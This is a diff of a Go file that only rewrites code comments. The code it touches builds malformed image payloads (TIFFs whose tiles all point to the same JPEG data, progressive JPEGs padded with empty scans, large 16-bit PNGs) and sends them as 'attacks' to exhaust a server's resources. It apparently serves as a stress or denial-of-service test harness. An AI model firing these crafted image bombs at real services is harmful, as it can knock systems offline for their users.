@@ -14,13 +14,13 @@ import (
 	"time"
 )
 
-// kind is a way to attack: it sends one request and gives the status of the answer, or how the connection ended.
+// kind is a kind of attack: it sends one request and returns the status of the answer, or how the connection ended.
 type kind struct {
 	name string
 	send func(ctx context.Context, d *net.Dialer, address string) string
 }
 
-// kinds are all of them: pictures that ask for much more than they have, and clients that hold what they got.
+// kinds lists all attacks: images that claim more data than they contain, and clients that hold on to resources.
 func kinds() ([]kind, error) {
 	var small, wide bytes.Buffer
 	if err := jpeg.Encode(&small, image.NewGray(image.Rect(0, 0, 64, 64)), nil); err != nil {
@@ -98,7 +98,7 @@ func chunks(_ context.Context, c net.Conn) {
 	}
 }
 
-// directory is a TIFF directory whose entries all claim the same bytes.
+// directory is a TIFF directory whose entries all refer to the same bytes.
 func directory(entries int) []byte {
 	le := binary.LittleEndian
 	b := le.AppendUint16([]byte("II*\x00\x08\x00\x00\x00"), uint16(entries))
@@ -109,26 +109,26 @@ func directory(entries int) []byte {
 	return b
 }
 
-// scans is a grey progressive JPEG whose scans after the first say that nothing is left to say, in runs of 2^14 blocks.
+// scans is a greyscale progressive JPEG whose scans after the first contain no changes, coded as runs of 2^14 blocks.
 func scans(side, n int) []byte {
 	segment := func(marker byte, p ...byte) []byte {
 		return append(binary.BigEndian.AppendUint16([]byte{0xff, marker}, uint16(len(p)+2)), p...)
 	}
-	dc, ac := append(make([]byte, 17), 0), append(make([]byte, 17), 0xe0) // one code of one bit each: no difference; a run of 2^14 and more
+	dc, ac := append(make([]byte, 17), 0), append(make([]byte, 17), 0xe0) // one one-bit code each: no difference; a run of 2^14 or more
 	dc[1], ac[0], ac[1] = 1, 0x10, 1
 	b := append([]byte{0xff, 0xd8}, segment(0xdb, append([]byte{0}, bytes.Repeat([]byte{1}, 64)...)...)...)
 	b = append(b, segment(0xc2, 8, byte(side>>8), byte(side), byte(side>>8), byte(side), 1, 1, 0x11, 0)...)
 	b = append(append(b, segment(0xc4, dc...)...), segment(0xc4, ac...)...)
 	blocks := (side + 7) / 8 * ((side + 7) / 8)
 	b = append(append(b, segment(0xda, 1, 1, 0, 0, 0, 0)...), make([]byte, (blocks+7)/8)...)
-	runs := make([]byte, (15*((blocks>>14)+1)+7)/8) // each a bit and 14 more, all zero
+	runs := make([]byte, (15*((blocks>>14)+1)+7)/8) // each is one bit and 14 more, all zero
 	for range n {
 		b = append(append(b, segment(0xda, 1, 1, 0, 1, 63, 0)...), runs...)
 	}
 	return append(b, 0xff, 0xd9)
 }
 
-// tiff is a picture of so many tiles that all name the same JPEG, of width × 1 tiles of a side, with so many bytes beside them.
+// tiff is an image whose tiles all refer to the same JPEG, of width × 1 tiles of the given side, padded with extra bytes.
 func tiff(piece []byte, tiles, width, side, beside int) []byte {
 	le := binary.LittleEndian
 	body := append(bytes.Clone(piece), make([]byte, beside)...)
@@ -141,7 +141,7 @@ func tiff(piece []byte, tiles, width, side, beside int) []byte {
 	}
 	b := append(le.AppendUint32([]byte("II*\x00"), uint32(8+len(body))), body...)
 	first, sizes := at, at+4*tiles
-	if tiles == 1 { // then the values stand in the entries
+	if tiles == 1 { // a single value is stored in the entry itself
 		first, sizes = 8, len(piece)
 	}
 	entries := [][3]int{
@@ -156,7 +156,7 @@ func tiff(piece []byte, tiles, width, side, beside int) []byte {
 	return le.AppendUint32(b, 0)
 }
 
-// png is a square picture of four samples of 16 bits, with these rows.
+// png is a square image with four 16-bit samples per pixel and these rows.
 func png(side uint32, rows []byte) []byte {
 	chunk := func(name string, data []byte) []byte {
 		b := append(binary.BigEndian.AppendUint32(nil, uint32(len(data))), name...)
@@ -166,7 +166,7 @@ func png(side uint32, rows []byte) []byte {
 	var data bytes.Buffer
 	if rows != nil {
 		z := zlib.NewWriter(&data)
-		_, _ = z.Write(rows) // a buffer takes all
+		_, _ = z.Write(rows) // writing to a buffer cannot fail
 		_ = z.Close()
 	}
 	header := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, side), side)
